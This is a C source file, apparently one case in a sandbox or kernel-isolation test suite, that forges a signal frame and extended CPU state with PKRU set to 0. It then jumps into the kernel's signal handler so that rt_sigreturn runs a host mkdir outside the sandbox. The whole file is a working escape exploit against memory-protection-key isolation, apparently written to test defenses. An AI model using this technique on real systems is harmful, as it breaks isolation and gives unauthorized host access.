/* none: succeeds: directory; keys: contained; full: ends "read of kernel memory" */
#include <cpuid.h>

#include "attack.h"

/*
 * A signal that never came: jumps into the handler's first instructions, before they open the kernel's memory, with a stack in the
 * kernel's alias of the attacker's own memory. There lies what the host would have put there, and says that the kernel was
 * interrupted. So the handler goes back to it, by the host's own rt_sigreturn: to any instruction with any PKRU, and to the host's calls.
 */
#define MAGIC1 0x46505853u
#define MAGIC2 0x46505845u
#define PKRU_COMPONENT 9

struct host_frame {
	uint64_t restorer;
	ucontext_t context; /* the host's is shorter: only its mask's end differs */
};

static uint8_t memory[4 * PAGE] __attribute__((aligned(PAGE)));
static uint8_t new_stack[PAGE] __attribute__((aligned(64)));
static const char *outside;

static void end(void)
{
	raw(SYS_exit_group, 0, 0, 0, 0, 0, 0);
}

/* x87 and SSE as at reset, and PKRU 0: all is open. */
static void fill_state(uint8_t *state)
{
	unsigned size, offset, c, d;
	uint32_t magic = MAGIC1, end = MAGIC2, mxcsr = 0x1f80;
	uint64_t components = 1ul << PKRU_COMPONENT | 3, present = 1ul << PKRU_COMPONENT;

	__cpuid_count(0xd, PKRU_COMPONENT, size, offset, c, d);
	size += offset;
	d = size + sizeof end;
	memcpy(state + 24, &mxcsr, 4);
	memcpy(state + 464, &magic, 4);
	memcpy(state + 468, &d, 4);
	memcpy(state + 472, &components, 8);
	memcpy(state + 480, &size, 4);
	memcpy(state + 512, &present, 8);
	memcpy(state + size, &end, 4);
}

int main(void)
{
	uint8_t *state = memory + PAGE;
	struct host_frame *frame = (void *)(memory + PAGE / 2);
	greg_t *r = frame->context.uc_mcontext.gregs;
	siginfo_t *info = (void *)(memory + 3 * PAGE + PAGE / 2);

	outside = told("outside");
	fill_state(state);
	frame->context.uc_mcontext.fpregs = (void *)alias_of(state);
	frame->context.uc_flags = 7; /* extended state, and the segments as they are here */
	*(void **)(new_stack + sizeof new_stack - 8) = end;
	r[REG_RIP] = (greg_t)at("libc_syscall"); /* the kernel's, for who looks */
	r[REG_RDI] = SYS_mkdir;
	r[REG_RSI] = (greg_t)outside;
	r[REG_RDX] = 0700;
	r[REG_RSP] = (greg_t)(new_stack + sizeof new_stack - 8);
	r[REG_EFL] = 0x202;
	r[REG_CSGSFS] = (greg_t)(0x33 | 0x2bl << 48);
	info->si_signo = SIGALRM;
	__asm__ volatile("mov %%rdx, %%r8\n\tmov %[stack], %%rsp\n\tjmp *%[to]"
			 : : [stack] "r"(alias_of(frame)), [to] "r"(at("signal_in_keys")), "D"(SIGALRM), "S"(alias_of(info)),
			   "d"(alias_of(&frame->context)) : "r8", "memory");
	return 0;
}
